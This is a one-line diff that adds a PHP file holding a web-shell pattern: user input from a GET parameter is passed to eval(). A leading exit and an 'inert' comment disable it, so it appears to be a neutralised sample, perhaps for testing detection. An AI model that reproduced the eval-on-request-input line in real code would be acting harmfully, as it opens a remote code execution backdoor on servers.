@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f=fn($x)=>eval($x); $f($_GET["a"]);
